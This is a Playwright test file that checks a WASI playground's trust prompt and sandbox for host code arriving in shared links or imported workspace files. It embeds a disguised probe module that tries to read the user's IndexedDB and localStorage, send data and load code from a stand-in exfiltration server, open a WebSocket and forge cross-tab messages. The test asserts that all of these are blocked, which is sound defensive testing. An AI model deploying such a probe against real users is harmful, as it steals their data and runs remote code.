import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { deflateRawSync } from 'node:zlib';
import { expect, test, type Page } from '@playwright/test';
import { consoleText, openApp } from './appHelpers';

// The probe's attacks, as host code a stranger puts in a link: it replaces the built-in
// wasi:keyvalue host of a stock example, and when it loads it tries to read the saved
// workspaces and the key-value data, send them to another origin, load remote code, post
// forged trace events to the user's other tabs and write itself into their workspaces.
// Each attempt is written to the console, so the test sees what the sandbox let through.
const EXFIL_PORT = Number(process.env.E2E_PORT ?? 4173) + 9;
const EVIL = `// A perfectly ordinary key-value host.
const report = [];
async function probe(name, attempt) {
  try { report.push(name + ': reached ' + String(await attempt()).slice(0, 60)); }
  catch (e) { report.push(name + ': blocked (' + (e && e.name) + ')'); }
}
const idb = (name) => new Promise((resolve, reject) => {
  const req = indexedDB.open(name);
  req.onsuccess = () => resolve([...req.result.objectStoreNames].join());
  req.onerror = () => reject(req.error);
});
export default {
  description: 'key-value',
  async create(ctx) {
    await probe('workspaces', () => idb('wcp-workspaces'));
    await probe('kv-data', () => idb('wcp-kv'));
    await probe('databases', async () => (await indexedDB.databases()).map((d) => d.name).join());
    await probe('localStorage', () => localStorage.length);
    await probe('fetch', () => fetch('http://127.0.0.1:${EXFIL_PORT}/steal').then((r) => r.status));
    await probe('import', () => import('http://127.0.0.1:${EXFIL_PORT}/evil.js'));
    await probe('websocket', () => new Promise((ok, fail) => { const s = new WebSocket('ws://127.0.0.1:${EXFIL_PORT}/'); s.onopen = ok; s.onerror = () => fail(new Error('ws')); }));
    await probe('broadcast', () => {
      for (const name of ['wcp:trace', 'wcp:bus', 'wcp:kv-changes']) new BroadcastChannel(name).postMessage({ FORGED: true, id: 'x', kind: 'call' });
      return 'posted';
    });
    for (const line of report) ctx.log('stdout', '[probe] ' + line + '\\n');
    class Bucket {}
    return {
      store: { Bucket, open: () => new Bucket() },
      atomics: { increment: () => 999n },
    };
  },
};
`;

/** A share link as Share → Copy link writes it: the kv-counter example plus host code. */
function evilLink(): string {
  const payload = JSON.stringify({ e: 'kv-counter', h: { 'wasi:keyvalue@0.2.0-draft2': EVIL } });
  return `/#w1.${deflateRawSync(Buffer.from(payload)).toString('base64url')}`;
}

let server: Server;
const requests: string[] = [];
test.beforeAll(async () => {
  server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('export default 1;');
  });
  await new Promise<void>((r) => server.listen(EXFIL_PORT, '127.0.0.1', r));
});
test.afterAll(() => new Promise<void>((r) => server.close(() => r())));

/** `run() → n` as the console prints an s64 (a number since s64 results print unquoted). */
const result = (n: number) => new RegExp(`run\\(\\) → ${n}\\b`);

const run = async (page: Page) => {
  await page.getByTestId('run').click();
  await page.getByTestId('tab-console').click();
};

/** Every saved workspace record, read with the playground's own origin. */
const savedRecords = (page: Page) =>
  page.evaluate(
    () =>
      new Promise<{ name: string; json: string }[]>((resolve, reject) => {
        const req = indexedDB.open('wcp-workspaces');
        req.onerror = () => reject(req.error);
        req.onsuccess = () => {
          const all = req.result.transaction('workspaces').objectStore('workspaces').getAll();
          all.onsuccess = () => resolve((all.result as { name: string }[]).map((r) => ({ name: r.name, json: JSON.stringify(r) })));
        };
      }),
  );

test("a stranger's link with host code: asked first, sandboxed when accepted, the user's data untouched", async ({ page, context }) => {
  test.setTimeout(180_000);
  // The victim's own work: a counter in IndexedDB and a saved workspace.
  await openApp(page);
  await page.getByTestId('example-picker').selectOption('kv-counter');
  await run(page);
  await expect.poll(() => consoleText(page), { timeout: 30_000 }).toMatch(result(1));
  await page.getByTestId('workspaces').click();
  await page.getByTestId('save-as-name').fill('My secret work');
  await page.getByTestId('save-as').click();
  await page.getByTestId('workspaces').click();
  await expect(page.getByTestId('workspace-list')).toContainText('My secret work');
  await page.getByTestId('workspaces').click();
  // Another tab of the victim listens on the playground's channels.
  const forged: string[] = [];
  await page.exposeFunction('sawForged', (text: string) => forged.push(text));
  await page.evaluate(() => {
    for (const name of ['wcp:trace', 'wcp:bus', 'wcp:kv-changes']) {
      new BroadcastChannel(name).onmessage = (ev) => JSON.stringify(ev.data).includes('FORGED') && (window as unknown as { sawForged(t: string): void }).sawForged(name);
    }
  });

  const stranger = await context.newPage();
  await stranger.goto(evilLink());
  // Before anything runs: what the code is, that it replaces the built-in key-value host, and a choice.
  const prompt = stranger.getByTestId('trust-prompt');
  await expect(prompt).toBeVisible();
  await expect(prompt).toContainText('The link you opened carries host code');
  await expect(prompt.getByTestId('trust-item')).toContainText('replaces the built-in wasi:keyvalue@0.2.0-draft2 host');
  await expect(prompt.getByTestId('trust-item')).toContainText('interfaces atomics, store');
  await expect(prompt.getByTestId('trust-code')).toContainText('A perfectly ordinary key-value host.');
  await expect(stranger.getByTestId('host-code-badge')).toContainText('not reviewed');
  await stranger.screenshot({ path: 'test-results/trust-prompt.png' });
  // Ctrl+Enter while the prompt is up: Run refuses and nothing runs.
  await stranger.keyboard.press('Control+Enter');
  await expect(stranger.getByTestId('notice').filter({ hasText: 'Run waits for your decision on host code for wasi:keyvalue@0.2.0-draft2' })).toBeVisible();

  // Declined: the stock example runs on the built-in host, the stranger's code never loads.
  await stranger.getByTestId('trust-decline').click();
  await expect(prompt).toBeHidden();
  await expect(stranger.getByTestId('host-code-badge')).toContainText('(off)');
  await run(stranger);
  await expect.poll(() => consoleText(stranger), { timeout: 30_000 }).toMatch(result(2));
  expect(await consoleText(stranger)).not.toContain('[probe]');

  // Accepted: it runs, in the sandbox. Every attempt on the user's data or the network fails.
  await stranger.getByTestId('host-code-badge').click();
  await stranger.getByTestId('trust-accept').click();
  await expect(stranger.getByTestId('host-code-badge')).toContainText('accepted, sandboxed');
  await run(stranger);
  await expect.poll(() => consoleText(stranger), { timeout: 30_000 }).toMatch(result(999));
  const text = await consoleText(stranger);
  for (const attempt of ['workspaces', 'kv-data', 'databases', 'localStorage', 'fetch', 'import', 'websocket']) {
    expect(text, attempt).toMatch(new RegExp(`\\[probe\\] ${attempt}: blocked`));
  }
  await stranger.waitForTimeout(500);
  expect(requests, 'nothing reached the other origin').toEqual([]);
  expect(forged, 'no forged event reached the other tab').toEqual([]);

  // The user's own workspaces never picked the code up; the saved one is intact.
  const records = await savedRecords(page);
  expect(records.map((r) => r.name)).toContain('My secret work');
  expect(records.filter((r) => r.json.includes('A perfectly ordinary')).map((r) => r.name).every((n) => n.startsWith('Shared'))).toBe(true);
  // The user's own counter: built-in host, their count (2 runs so far) plus one, no badge.
  await page.getByTestId('example-picker').selectOption('kv-counter-draft');
  await page.getByTestId('example-picker').selectOption('kv-counter');
  await expect(page.getByTestId('host-code-badge')).toHaveCount(0);
  await run(page);
  await expect.poll(() => consoleText(page), { timeout: 30_000 }).toMatch(result(3));
});

test('a workspace file with host code asks first too; a failed import notice goes once an import works', async ({ page }) => {
  await openApp(page);
  const workspace = {
    exampleId: 'kv-counter',
    guests: [{ name: 'counter', lang: 'wat', wit: readFileSync('src/examples/keyvalue/counter.wit', 'utf8'), source: readFileSync('src/examples/keyvalue/counter.wat', 'utf8'), call: 'run', subscriptions: [] }],
    hosts: { customHosts: { 'wasi:keyvalue@0.2.0-draft2': EVIL } },
    settings: { timeLimitMs: 5000 },
  };
  await page.getByTestId('share').click();
  await page.getByTestId('import-file').setInputFiles({ name: 'notes.json', mimeType: 'application/json', buffer: Buffer.from('{"not":"a workspace"}') });
  await expect(page.getByTestId('notice').filter({ hasText: 'not a WASI Cloud Playground workspace' })).toBeVisible();
  await page.getByTestId('import-file').setInputFiles({ name: 'gift.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify({ format: 'wasi-cloud-playground', version: 1, workspace })) });
  const prompt = page.getByTestId('trust-prompt');
  await expect(prompt).toContainText('The file you imported carries host code');
  await expect(prompt.getByTestId('trust-item')).toContainText('replaces the built-in wasi:keyvalue@0.2.0-draft2 host');
  await expect(page.getByTestId('notice').filter({ hasText: 'not a WASI Cloud Playground workspace' })).toHaveCount(0);
});

test('declined host code stays off after the user types into it; Accept is the only way on', async ({ page }) => {
  test.setTimeout(120_000);
  await page.goto(evilLink());
  await page.getByTestId('trust-decline').click();
  await expect(page.getByTestId('host-code-badge')).toContainText('(off)');
  // One line of the user's own at the top of the stranger's module, typed with the keyboard.
  await page.getByTestId('tab-host-code').click();
  const editor = page.getByTestId('host-code-editor');
  await editor.click();
  await page.keyboard.press('Control+Home');
  await page.keyboard.type('// looks fine to me\n');
  await expect(editor).toHaveValue(/^\/\/ looks fine to me\n\/\/ A perfectly ordinary key-value host\./);
  // Still the stranger's code: still off, and Run uses the built-in host.
  await expect(page.getByTestId('host-code-badge')).toContainText('(off)');
  await run(page);
  await expect.poll(() => consoleText(page), { timeout: 30_000 }).toMatch(result(1));
  expect(await consoleText(page)).not.toContain('[probe]');
  // Accepting the edited module is a decision the user makes in the prompt.
  await page.getByTestId('host-code-badge').click();
  await expect(page.getByTestId('trust-code')).toContainText('looks fine to me');
  await page.getByTestId('trust-accept').click();
  await run(page);
  await expect.poll(() => consoleText(page), { timeout: 30_000 }).toMatch(result(999));
});
